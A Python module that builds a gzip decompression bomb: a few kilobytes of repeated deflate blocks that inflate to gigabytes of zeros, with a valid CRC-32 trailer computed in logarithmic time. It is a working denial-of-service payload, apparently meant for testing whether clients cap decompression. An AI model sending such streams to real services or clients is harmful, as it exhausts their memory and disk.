"""A gzip stream that inflates to gigabytes of zeros, produced without ever building it.

One megabyte of zeros deflates (level 9, then a full flush) to about a kilobyte of byte-aligned blocks
that reference nothing before them, so repeating those bytes ``n`` times is a valid deflate stream of
``n`` MiB. The gzip trailer's CRC-32 of ``n`` MiB of zeros is built by ``crc32_combine`` (zlib's GF(2)
method) in O(log n), so even the trailer costs nothing: a client that inflates everything finds a valid
file, and one with a cap stops after a few compressed kilobytes.
"""

from __future__ import annotations

import functools
import struct
import zlib
from collections.abc import Iterator

MIB = 1 << 20
GZIP_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03"


@functools.cache
def zero_block() -> bytes:
    """Deflate blocks for one MiB of zeros, ending on a full flush (no BFINAL, byte aligned)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(bytes(MIB)) + compressor.flush(zlib.Z_FULL_FLUSH)


FINAL_BLOCK = zlib.compressobj(9, zlib.DEFLATED, -15).flush()  # an empty block with BFINAL set


def _gf2_times(matrix: list[int], vector: int) -> int:
    total = 0
    index = 0
    while vector:
        if vector & 1:
            total ^= matrix[index]
        vector >>= 1
        index += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, matrix[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, length2: int) -> int:
    """CRC-32 of A+B from crc(A), crc(B) and len(B) (zlib's ``crc32_combine``, not exposed by Python)."""
    if length2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]  # the operator for one zero bit
    even = _gf2_square(odd)  # two zero bits
    odd = _gf2_square(even)  # four zero bits
    while True:
        even = _gf2_square(odd)
        if length2 & 1:
            crc1 = _gf2_times(even, crc1)
        length2 >>= 1
        if not length2:
            break
        odd = _gf2_square(even)
        if length2 & 1:
            crc1 = _gf2_times(odd, crc1)
        length2 >>= 1
        if not length2:
            break
    return crc1 ^ crc2


def crc32_of_zeros(mebibytes: int) -> int:
    """CRC-32 of ``mebibytes`` MiB of zeros by doubling, O(log n) combines."""
    total, total_len = 0, 0
    chunk, chunk_len = zlib.crc32(bytes(MIB)), MIB
    n = mebibytes
    while n:
        if n & 1:
            total = crc32_combine(total, chunk, chunk_len) if total_len else chunk
            total_len += chunk_len
        n >>= 1
        if n:
            chunk = crc32_combine(chunk, chunk, chunk_len)
            chunk_len *= 2
    return total


def compressed_size(mebibytes: int) -> int:
    return len(GZIP_HEADER) + mebibytes * len(zero_block()) + len(FINAL_BLOCK) + 8


def gzip_bomb(mebibytes: int) -> Iterator[bytes]:
    """The gzip file piece by piece: header, the zero block ``mebibytes`` times, end block, trailer."""
    yield GZIP_HEADER
    block = zero_block()
    for _ in range(mebibytes):
        yield block
    yield FINAL_BLOCK + struct.pack("<II", crc32_of_zeros(mebibytes), (mebibytes * MIB) & 0xFFFFFFFF)
